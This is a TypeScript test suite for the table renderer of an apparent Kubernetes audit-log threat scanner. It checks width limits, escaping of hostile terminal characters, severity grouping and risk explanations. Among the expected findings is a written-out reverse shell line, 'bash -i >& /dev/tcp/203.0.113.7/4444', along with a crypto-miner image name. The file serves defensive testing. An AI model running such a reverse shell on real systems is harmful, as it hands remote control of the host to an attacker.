import assert from 'node:assert/strict';
import { test } from 'node:test';
import { stripVTControlCharacters } from 'node:util';
import stringWidth from 'string-width';
import type { Finding } from '../model/finding.ts';
import { tableSink } from './table.ts';
import {
  emptySummary,
  hostileNames,
  hostRootJob,
  imagePatch,
  nodeAgents,
  nothingKnown,
  printed,
  quietBackup,
  refusedAnonymous,
  reverseShell,
  reverseShellRepeats,
  SAMPLE_FINDINGS,
  sampleContext,
  sampleFinding,
  sampleSummary,
  unseenBody,
  wideCharacters,
} from './testing.ts';

const table = (findings: Iterable<Finding>, changes: Parameters<typeof sampleContext>[0] = {}): Promise<string> =>
  printed(tableSink, findings, sampleContext(changes));

/** Control characters other than a line break, and what hides or reorders text. */
const NOT_INERT = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;

for (const width of [40, 60, 80, 100, 120]) {
  for (const explain of [false, true]) {
    test(`no line is wider than ${width} columns${explain ? ' with --explain' : ''}, wide characters and long words included`, async () => {
      const text = await table(SAMPLE_FINDINGS, { width, explain });
      for (const line of text.split('\n')) assert.ok(stringWidth(line) <= width, `${stringWidth(line)}: ${line}`);
    });
  }
}

test('a terminal of 200 columns gets lines of at most 120, and longer ones than at 80', async () => {
  const widest = (text: string): number => Math.max(...text.split('\n').map((line) => stringWidth(line)));
  assert.ok(widest(await table(SAMPLE_FINDINGS, { width: 200 })) <= 120);
  assert.ok(widest(await table(SAMPLE_FINDINGS, { width: 200 })) > 80);
});

test('without colour there is no escape sequence, and no character that acts on a terminal', async () => {
  for (const explain of [false, true]) {
    assert.doesNotMatch(await table(SAMPLE_FINDINGS, { explain }), NOT_INERT);
    assert.doesNotMatch(await table([], { explain }), NOT_INERT);
  }
});

test('with colour the only escape sequences are colours, and the text under them is the same', async () => {
  const colored = await table(SAMPLE_FINDINGS, { color: true, explain: true });
  assert.match(colored, /\u001b\[/);
  assert.doesNotMatch(colored.replace(/\u001b\[\d{1,3}m/g, ''), NOT_INERT);
  assert.equal(stripVTControlCharacters(colored), await table(SAMPLE_FINDINGS, { explain: true }));
});

test('severity is told by word and shape where there is no colour', async () => {
  const text = await table(SAMPLE_FINDINGS);
  for (const badge of ['◆ CRITICAL', '▲ HIGH', '● MEDIUM', '○ LOW', '□ INFO']) assert.ok(text.includes(badge), badge);
});

test('hostile names are shown as what they are', async () => {
  const text = await table([hostileNames], { width: 120 });
  for (const shown of ['\\u{1B}[31;1mALL CLEAR', '\\u{202E}', '\\u{200B}']) {
    assert.ok(text.includes(shown), shown);
  }
});

test('repeats collapse into one block with their number, first and last time', async () => {
  const text = await table([...reverseShellRepeats, reverseShell]);
  assert.match(text, /^14 findings in 1 group: ◆ 1 critical$/m);
  assert.match(text, /×14, first 2026-11-24 02:14:07 UTC, last 2026-11-24 09:14:07 UTC/);
  assert.equal(text.split('◆ CRITICAL').length - 1, 1);
});

test('a group is shown through its worst finding, whichever came first', async () => {
  const mild = { ...reverseShell, severity: 'low', risk: 3, title: 'a mild first sign' } as const;
  for (const order of [
    [mild, reverseShell],
    [reverseShell, mild],
  ]) {
    const text = await table(order);
    assert.match(text, /◆ CRITICAL/);
    assert.doesNotMatch(text, /a mild first sign/);
    assert.match(text, /×2,/);
  }
});

test('groups are ordered by severity, then by risk', async () => {
  const text = await table(SAMPLE_FINDINGS, { width: 120 });
  const order = [...text.matchAll(/^ . ([A-Z]+) /gm)].map(([, word]) => word);
  assert.deepEqual(order, [
    ...Array.from({ length: 2 }, () => 'CRITICAL'),
    ...Array.from({ length: 4 }, () => 'HIGH'),
    ...Array.from({ length: 4 }, () => 'MEDIUM'),
    ...Array.from({ length: 2 }, () => 'LOW'),
    'INFO',
  ]);
  assert.ok(text.indexOf('risk 96') >= 0 && text.indexOf('risk 96') < text.indexOf('risk 93'));
});

const says: readonly { situation: string; finding: Finding; expect: readonly RegExp[] }[] = [
  {
    situation: 'a reverse shell names its container, place, layers and value',
    finding: reverseShell,
    expect: [
      /sync › containers\[0\]\.args\[0\], found under base64, then gzip/,
      /= bash -i >& \/dev\/tcp\/203\.0\.113\.7\/4444 0>&1/,
      /from 192\.0\.2\.14, claiming 198\.51\.100\.23/,
      /cronwarden explain command\.reverse-shell/,
    ],
  },
  {
    situation: 'a body at level Metadata is not assessed, and the reason is given',
    finding: unseenBody,
    expect: [/not assessed: 9 indicators, because the log is at level Metadata/],
  },
  {
    situation: 'a refused request says so',
    finding: refusedAnonymous,
    expect: [/create refused \(403\)/, /before it read the body/, /CronJob in kube-system, name not logged/],
  },
  {
    situation: 'a record that lost everything says what is not known',
    finding: nothingKnown,
    expect: [/actor not logged/, /time not known/, /outcome not logged/, /address not logged/],
  },
  { situation: 'a patch points into the patch', finding: imagePatch, expect: [/\[0\]\.value = 203\.0\.113\.50:5000/] },
];
for (const { situation, finding, expect } of says) {
  test(situation, async () => {
    const text = await table([finding]);
    for (const one of expect) assert.match(text, one);
  });
}

test('--explain prints a sum whose lines add up to the risk', async () => {
  for (const finding of SAMPLE_FINDINGS) {
    const text = await table([finding], { explain: true, width: 120 });
    const lines = text.slice(text.indexOf('How the risk adds up')).split('\n');
    let sum = 0;
    let total: number | undefined;
    for (const line of lines) {
      const part = /^│ +([+−])(\d+) {2}\S/.exec(line);
      if (part !== null && total === undefined) sum += Number(part[2]) * (part[1] === '−' ? -1 : 1);
      const whole = /^│ +(\d+) {2}risk, of 100$/.exec(line);
      if (whole !== null) total = Number(whole[1]);
    }
    assert.equal(total, finding.risk, finding.title);
    assert.equal(sum, total, finding.title);
    assert.doesNotMatch(text, /The lines above sum to/);
  }
});

test('--explain owns up when the lines do not add up', async () => {
  const text = await table([{ ...quietBackup, risk: 77 }], { explain: true });
  assert.match(text, /The lines above sum to 14\./);
});

test('--explain prints full pointers, techniques, the original flags and where the event was read', async () => {
  const text = await table([hostRootJob, refusedAnonymous], { explain: true, width: 120 });
  for (const part of [
    '/requestObject/spec/template/spec/containers/0/securityContext/privileged',
    'T1611 Escape to Host (privilege-escalation), version 18.1',
    'score 2: IsHostPathMount, IsPrivileged',
    'score 0: no flag is set',
    'audit/kube-apiserver-2026-11-24.jsonl at byte 88,120,442',
    'because the API server refused the request before it read the body:',
  ]) {
    assert.ok(text.includes(part), part);
  }
});

test('a reason with many pieces of evidence shows some and counts the rest; --explain shows all', async () => {
  const base = quietBackup.indicators[0];
  assert.ok(base !== undefined);
  const one = base.evidence[0];
  assert.ok(one !== undefined);
  const many = Array.from({ length: 9 }, (_, at) => ({ ...one, value: `value-${at}` }));
  const finding = { ...quietBackup, indicators: [{ ...base, evidence: many }] };
  assert.match(await table([finding]), /and 7 more like it/);
  const explained = await table([finding], { explain: true });
  for (const { value } of many) assert.ok(explained.includes(value), value);
});

test('a command of a megabyte is cut to one line, and to a screenful with --explain', async () => {
  const base = quietBackup.indicators[0];
  const one = base?.evidence[0];
  assert.ok(base !== undefined && one !== undefined);
  const finding = { ...quietBackup, indicators: [{ ...base, evidence: [{ ...one, value: '汉'.repeat(1_000_000) }] }] };
  assert.ok((await table([finding])).length < 4_000);
  const explained = await table([finding], { explain: true });
  assert.ok(explained.length < 20_000);
  assert.match(explained, /996,000 more\s[│\s]*characters/);
});

test('no findings: a calm sentence says what was looked at', async () => {
  const text = await table([], { summary: () => emptySummary({ records: 1_204, files: 3, activities: 27 }) });
  assert.equal(text, 'No findings.\nRead 1,204 records in 3 files and judged 27 writes to workloads.\n');
});

test('no findings, and parts that could not be seen: the sentence does not hide them', async () => {
  const summary = sampleSummary({ findings: { critical: 0, high: 0, medium: 0, low: 2, info: 4 } });
  const text = (await table([], { summary: () => summary })).replaceAll('\n', ' ');
  assert.match(
    text,
    /does not show the whole body of 5 of them; 16 records could not be read; 1 path could not be opened\./,
  );
  assert.match(text, /Below the severity that was asked for: info 4, low 2\./);
});

test('more groups than there is room for: the worst are kept, and the rest is counted', async () => {
  const many = function* (): Generator<Finding> {
    for (let at = 0; at < 12_000; at += 1) yield { ...quietBackup, id: `id-${at}`, group: `group-${at}` };
    yield reverseShell;
  };
  const text = await table(many());
  assert.match(text, /^12,001 findings in 5,000 groups: ◆ 1 critical {2}○ 4,999 low$/m);
  assert.match(
    text.replaceAll('\n', ' '),
    /Only the 5,000 worst groups are shown: 7,001 findings of less severe groups are left out/,
  );
  assert.ok(text.indexOf('CRITICAL') < text.indexOf('LOW'));
});

test('findings of several namespaces in one group are counted together', async () => {
  assert.match(await table(nodeAgents), /×3, first 2026-11-18 12:00:00 UTC, last 2026-11-18 12:00:04 UTC/);
});

test('a finding without any reason, evidence or event still prints', async () => {
  const bare = sampleFinding({
    id: 'x',
    group: 'x',
    title: '',
    summary: '',
    severity: 'info',
    confidence: 0,
    indicators: [],
    times: null,
    workload: {},
    actor: {},
  });
  assert.match(await table([{ ...bare, events: [], attack: [] }], { explain: true }), /□ INFO/);
});

test('wide characters keep their full text where it fits', async () => {
  assert.match(await table([wideCharacters]), /採掘 › containers\[0\]\.image = docker\.io\/例え\/xmrig:最新/);
});

test('what a young baseline leaves open is said with the whole finding alone', async () => {
  const young = { ...reverseShell, unassessed: [{ id: 'baseline.new-author', because: 'no-baseline' }] } as const;
  assert.doesNotMatch(await printed(tableSink, [young], sampleContext()), /not assessed/i);
  assert.match(await printed(tableSink, [young], sampleContext({ explain: true })), /baseline\.new-author/);
});
